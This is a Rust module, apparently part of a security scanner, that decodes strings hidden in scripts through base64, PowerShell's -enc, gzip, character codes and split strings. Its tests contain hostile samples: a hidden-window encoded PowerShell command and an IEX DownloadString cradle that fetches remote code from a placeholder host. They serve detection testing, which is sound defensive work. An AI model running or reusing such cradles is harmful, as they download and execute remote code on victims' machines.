//! Strings a command or script hides, undone where that is cheap: base64 (PowerShell's
//! `-enc` in UTF-16LE, `FromBase64String`, gzip or deflate inside), runs of character
//! codes (`[char[]](73,69,88)`, `[char]73+[char]69`), and text split into concatenated
//! pieces or broken up with backticks (`('ne'+'w-'+'item')`, ``d`OWN`load``).

mod char_codes;
mod unsplit;

use std::io::Read;

use char_codes::char_code_runs;
use unsplit::unsplit;

/// The most strings a text yields, its own and those found inside them together.
pub(crate) const MAX_DECODED: usize = 4;
/// The shortest base64 run looked at.
const MIN_BASE64: usize = 16;
/// The most bytes a compressed payload is inflated to.
const MAX_INFLATED: u64 = 256 * 1024;

/// The strings hidden in `text`, outermost first; each is looked into in turn (an encoded
/// command that itself decodes base64), up to [`MAX_DECODED`] in all.
pub(crate) fn hidden_strings(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    reveal(text, &mut out);
    let mut next = 0;
    while next < out.len() && out.len() < MAX_DECODED {
        let inner = out[next].clone();
        reveal(&inner, &mut out);
        next += 1;
    }
    out
}

/// Adds the strings hidden directly in `text` to `out`.
fn reveal(text: &str, out: &mut Vec<String>) {
    let add = |s: String, out: &mut Vec<String>| {
        if out.len() < MAX_DECODED && !out.contains(&s) && s != text {
            out.push(s);
        }
    };
    let mut deflates = None;
    let mut bytes = Vec::new();
    for run in base64_runs(text) {
        if out.len() >= MAX_DECODED {
            return;
        }
        if !decode_base64(run, &mut bytes) {
            continue;
        }
        let decoded = readable(&bytes, || {
            *deflates.get_or_insert_with(|| contains_ignore_case(text, "DeflateStream"))
        });
        if let Some(s) = decoded {
            add(s, out);
        }
    }
    for s in char_code_runs(text) {
        add(s, out);
    }
    if let Some(s) = unsplit(text) {
        add(s, out);
    }
}

/// Runs of at least [`MIN_BASE64`] base64 characters (with their padding) whose length is
/// a multiple of four. The byte [`MIN_BASE64`] ahead is looked at first: when it is no base64
/// character, no run long enough starts before it (most text is skipped that way).
fn base64_runs(text: &str) -> impl Iterator<Item = &str> {
    const BASE64: [bool; 256] = super::mentions::byte_table(
        b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/",
    );
    let b = text.as_bytes();
    let is_b64 = |c: &u8| BASE64[usize::from(*c)];
    // No run reaches back before `i`: the byte before it is no base64 character.
    let mut i = 0;
    std::iter::from_fn(move || {
        while i + MIN_BASE64 <= b.len() {
            let probe = i + MIN_BASE64 - 1;
            if !is_b64(&b[probe]) {
                i = probe + 1;
                continue;
            }
            let start = probe - b[i..probe].iter().rev().take_while(|c| is_b64(c)).count();
            let mut end = probe + 1 + b[probe + 1..].iter().take_while(|c| is_b64(c)).count();
            let run_end = end;
            while end < b.len() && end - run_end < 2 && b[end] == b'=' {
                end += 1;
            }
            i = end;
            let run = &b[start..end];
            // A short run of letters alone is a word (`ParameterBinding`), not base64.
            let word = run.len() < 2 * MIN_BASE64 && run.iter().all(u8::is_ascii_alphabetic);
            if run.len() >= MIN_BASE64 && run.len().is_multiple_of(4) && !word {
                return Some(&text[start..end]);
            }
        }
        None
    })
}

/// Decodes `run` into `out` (cleared first); `false` if it is not base64.
fn decode_base64(run: &str, out: &mut Vec<u8>) -> bool {
    let sextet = |c: u8| -> Option<u32> {
        Some(u32::from(match c {
            b'A'..=b'Z' => c - b'A',
            b'a'..=b'z' => c - b'a' + 26,
            b'0'..=b'9' => c - b'0' + 52,
            b'+' => 62,
            b'/' => 63,
            _ => return None,
        }))
    };
    out.clear();
    let data = run.trim_end_matches('=').as_bytes();
    for chunk in data.chunks(4) {
        let mut n = 0u32;
        for (k, c) in chunk.iter().enumerate() {
            match sextet(*c) {
                Some(v) => n |= v << (18 - 6 * k),
                None => return false,
            }
        }
        out.extend_from_slice(&n.to_be_bytes()[1..chunk.len()]);
    }
    true
}

/// Decoded bytes as text, when they read as text: UTF-16LE (PowerShell's `-enc`) or
/// UTF-8, inflated first when they are gzip (or deflate, when the script says it uses
/// `DeflateStream`).
fn readable(bytes: &[u8], deflates: impl FnOnce() -> bool) -> Option<String> {
    if bytes.starts_with(&[0x1f, 0x8b]) {
        return inflate(flate2::read::GzDecoder::new(bytes)).and_then(|b| as_text(&b));
    }
    as_text(bytes).or_else(|| {
        deflates()
            .then(|| inflate(flate2::read::DeflateDecoder::new(bytes)))
            .flatten()
            .and_then(|b| as_text(&b))
    })
}

/// Whether `text` holds `word`, in any case.
fn contains_ignore_case(text: &str, word: &str) -> bool {
    text.as_bytes()
        .windows(word.len())
        .any(|w| w.eq_ignore_ascii_case(word.as_bytes()))
}

/// What `reader` inflates to, at most [`MAX_INFLATED`] bytes of it.
fn inflate(reader: impl Read) -> Option<Vec<u8>> {
    let mut out = Vec::new();
    reader.take(MAX_INFLATED).read_to_end(&mut out).ok()?;
    Some(out)
}

/// `bytes` as text, if they are: UTF-16LE when nine in ten of their high bytes are zero,
/// UTF-8 otherwise; nearly all printable, with a few letters.
fn as_text(bytes: &[u8]) -> Option<String> {
    let utf16 = bytes.len() >= 8
        && bytes.len().is_multiple_of(2)
        && bytes.iter().skip(1).step_by(2).filter(|b| **b == 0).count() * 10 >= bytes.len() / 2 * 9;
    let owned;
    let text = if utf16 {
        let units = bytes
            .chunks_exact(2)
            .map(|p| u16::from_le_bytes([p[0], p[1]]));
        owned = char::decode_utf16(units)
            .collect::<Result<String, _>>()
            .ok()?;
        owned.as_str()
    } else {
        std::str::from_utf8(bytes).ok()?
    };
    let text = text.trim_matches(|c: char| c.is_whitespace() || c == '\0');
    let chars = text.chars().count();
    let printable = text
        .chars()
        .filter(|c| !c.is_control() || matches!(c, '\r' | '\n' | '\t'))
        .count();
    let letters = text.chars().filter(|c| c.is_alphabetic()).count();
    (chars >= 6 && printable * 100 >= chars * 97 && letters >= 3).then(|| text.to_string())
}

#[cfg(test)]
mod tests {
    use super::*;

    /// `text` in UTF-16LE, base64: what `powershell -enc` takes.
    fn encoded_command(text: &str) -> String {
        let bytes: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
        base64(&bytes)
    }

    /// `bytes` in base64, with padding.
    fn base64(bytes: &[u8]) -> String {
        const ALPHABET: &[u8; 64] =
            b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let mut out = String::new();
        for chunk in bytes.chunks(3) {
            let n = chunk
                .iter()
                .enumerate()
                .fold(0u32, |n, (k, b)| n | u32::from(*b) << (16 - 8 * k));
            for k in 0..4 {
                if k <= chunk.len() {
                    out.push(char::from(ALPHABET[(n >> (18 - 6 * k) & 63) as usize]));
                } else {
                    out.push('=');
                }
            }
        }
        out
    }

    #[test]
    fn an_encoded_command_decodes_and_so_does_the_base64_inside_it() {
        let inner = base64(b"http://10.0.0.5:80/login/process.php");
        let outer =
            format!("$s=[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{inner}'))");
        let text = format!("powershell -nop -w hidden -enc {}", encoded_command(&outer));
        assert_eq!(
            hidden_strings(&text),
            vec![outer, "http://10.0.0.5:80/login/process.php".to_string()]
        );
    }

    #[test]
    fn gzip_inside_base64_is_inflated() {
        use std::io::Write;
        let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        gz.write_all(b"IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')")
            .expect("in memory");
        let packed = base64(&gz.finish().expect("in memory"));
        let text = format!("IO.Compression.GzipStream([Convert]::FromBase64String('{packed}'))");
        assert_eq!(
            hidden_strings(&text),
            vec!["IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')"]
        );
    }

    #[test]
    fn words_and_hashes_that_look_like_base64_are_not_decoded() {
        let text = "SecurityProtocol ScriptBlockLogging \
                    e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
        assert_eq!(hidden_strings(text), Vec::<String>::new());
    }
}
